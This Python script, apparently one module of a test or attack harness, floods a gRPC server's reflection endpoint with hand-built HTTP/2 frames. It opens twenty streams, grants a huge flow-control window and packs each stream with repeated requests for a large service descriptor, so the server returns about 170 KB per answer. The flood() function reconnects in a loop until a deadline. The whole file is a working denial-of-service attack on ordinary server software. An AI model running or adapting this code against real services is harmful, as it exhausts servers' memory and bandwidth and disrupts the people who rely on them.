"""Twenty reflection streams with 16 KiB of requests each, whose answers of 170 KB are read."""

import contextlib
import struct
import time

from wire import DATA, END_HEADERS, HEADERS, PREFACE, WINDOW_UPDATE, connect, frame, literal, settings, text

WINDOW = 1 << 30
STREAMS = range(1, 41, 2)
# The largest answer: a file with all its imports.
REQUEST = text(4, "entitled.v1.CustomerService")
MESSAGE = struct.pack(">BI", 0, len(REQUEST)) + REQUEST


def opening():
    head = b"\x83\x86\x01\x01a" + literal(":path", "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo")
    head += literal("content-type", "application/grpc") + literal("te", "trailers")
    window = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", WINDOW))
    heads = b"".join(frame(HEADERS, END_HEADERS, stream, head) for stream in STREAMS)
    requests = MESSAGE * (16_384 // len(MESSAGE))
    return PREFACE + settings(window=WINDOW) + window + heads + b"".join(frame(DATA, 0, s, requests) for s in STREAMS)


def flood(target, until):
    closed = 0
    while time.monotonic() < until:
        # Until all are answered.
        with contextlib.suppress(TimeoutError), connect(target.grpc, timeout=0.5) as peer:
            peer.sendall(opening())
            while time.monotonic() < until:
                data = peer.recv(1 << 20)
                if not data:
                    closed += 1
                    break
                peer.sendall(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", len(data))))
    return closed
